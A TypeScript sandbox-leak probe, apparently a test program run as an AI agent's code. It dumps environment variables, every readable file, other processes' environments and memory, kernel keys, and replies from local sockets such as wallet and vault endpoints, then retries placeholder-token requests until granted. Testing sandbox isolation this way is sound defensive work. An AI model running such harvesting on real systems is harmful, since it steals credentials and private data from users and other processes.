import {
  closeSync,
  lstatSync,
  openSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  readSync,
} from 'node:fs';
import { connect } from 'node:net';
import { dirname, join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';

/**
 * Run in a sandbox as an agent's program: writes all that it can read there to its output, where
 * somebody outside looks for secrets. What it cannot open it says nothing of.
 */

/** Programs and their code: nothing of a node is written there. */
const CODE = ['/bin', '/lib', '/lib32', '/lib64', '/opt', '/proc', '/sbin', '/sys', '/usr'];
const MOST_FILE_BYTES = 8 * 1024 * 1024;
const MOST_REGION_BYTES = 16 * 1024 * 1024;
const PAGE = Buffer.alloc(4096);
const ASKED = ['/v1/status', '/v1/export', '/v1/wallet/requests', '/v1/log', '/vault/list', '/'];
const SILENCE_MS = 2000;
const MOST_TRIES = 120;
/** It waits for a person. */
const TOO_EARLY = 425;
const REFUSED = 403;

await main(process.argv.slice(2));

/** `ORIGIN/cNUMBER=VARIABLE` of what there is a placeholder for. */
async function main(placeholders: readonly string[]): Promise<void> {
  tell(Buffer.from(JSON.stringify(process.env)));
  const sockets = new Set<string>();
  walk('/', sockets);
  for (const line of textOf('/proc/net/unix').split('\n')) {
    const path = line.split(/\s+/)[7];
    if (path !== undefined && path !== '') sockets.add(path);
  }
  for (const path of sockets) for (const target of ASKED) tell(await answerOf(path, target));
  for (const name of ['net/tcp', 'net/unix', 'keys', 'key-users', 'mounts']) {
    tellFile(`/proc/${name}`);
  }
  for (const pid of readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name))) tellProcess(pid);
  const said = await Promise.all(placeholders.map(askWith));
  tell(Buffer.from(`\nanswered ${said.filter((isAnswered) => isAnswered).length}\n`));
}

function tell(bytes: Uint8Array): void {
  process.stdout.write(bytes);
}

function tellFile(path: string): void {
  try {
    tell(readFileSync(path));
  } catch {
    // It is not to be read.
  }
}

function textOf(path: string): string {
  try {
    return readFileSync(path, 'utf8');
  } catch {
    return '';
  }
}

function walk(folder: string, sockets: Set<string>): void {
  const own = [dirname(process.execPath), import.meta.dirname];
  if (CODE.includes(folder) || own.includes(folder) || folder.endsWith('/node_modules')) return;
  let names: string[] = [];
  try {
    names = readdirSync(folder);
  } catch {
    return;
  }
  for (const name of names) {
    const path = join(folder, name);
    const found = lstatSync(path, { throwIfNoEntry: false });
    if (found?.isDirectory()) walk(path, sockets);
    else if (found?.isSocket()) sockets.add(path);
    else if (found?.isFile() && found.size <= MOST_FILE_BYTES) tellFile(path);
  }
}

/** What a process shows, and its memory where that can be opened. */
function tellProcess(pid: string): void {
  const folder = `/proc/${pid}`;
  for (const name of ['cmdline', 'environ', 'status', 'maps', 'auxv']) tellFile(join(folder, name));
  try {
    for (const fd of readdirSync(join(folder, 'fd')))
      tell(Buffer.from(readlinkSync(join(folder, 'fd', fd))));
  } catch {
    // Of somebody else.
  }
  if (pid === String(process.pid)) return;
  for (const line of textOf(join(folder, 'maps')).split('\n')) {
    const [, from, to, rights] = /^([0-9a-f]+)-([0-9a-f]+) (\S+)/.exec(line) ?? [];
    if (from === undefined || to === undefined || !rights?.startsWith('rw')) continue;
    tellMemory(join(folder, 'mem'), Number.parseInt(from, 16), Number.parseInt(to, 16));
  }
}

/** Pages that hold anything. */
function tellMemory(path: string, from: number, to: number): void {
  try {
    const memory = openSync(path, 'r');
    const bytes = Buffer.alloc(Math.min(to - from, MOST_REGION_BYTES));
    const size = readSync(memory, bytes, 0, bytes.length, from);
    closeSync(memory);
    for (let at = 0; at < size; at += PAGE.length) {
      const page = bytes.subarray(at, at + PAGE.length);
      if (!page.equals(PAGE)) tell(page);
    }
  } catch {
    // Not its memory to read.
  }
}

function answerOf(path: string, target: string): Promise<Buffer> {
  return new Promise((done) => {
    const chunks: Buffer[] = [];
    const end = (): void => {
      socket.destroy();
      done(Buffer.concat(chunks));
    };
    const socket = connect(path.replace(/^@/, '\0'));
    socket.setTimeout(SILENCE_MS, end);
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('error', end).on('close', end);
    socket.write(`GET ${target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`);
  });
}

/** Uses a placeholder until somebody granted it; whether it was answered. */
async function askWith(placeholder: string): Promise<boolean> {
  const [url = '', variable = ''] = placeholder.split('=');
  const headers = { authorization: `Bearer ${process.env[variable]}` };
  for (let tries = 0; tries < MOST_TRIES; tries += 1) {
    const answer = await fetch(`${url}/do`, { headers, redirect: 'manual' });
    tell(Buffer.from(JSON.stringify([...answer.headers])));
    // One that breaks off is one all the same.
    const body = await answer.arrayBuffer().catch(() => new ArrayBuffer(0));
    tell(Buffer.from(body));
    if (answer.status !== TOO_EARLY) return answer.status !== REFUSED;
    await sleep(500);
  }
  return false;
}
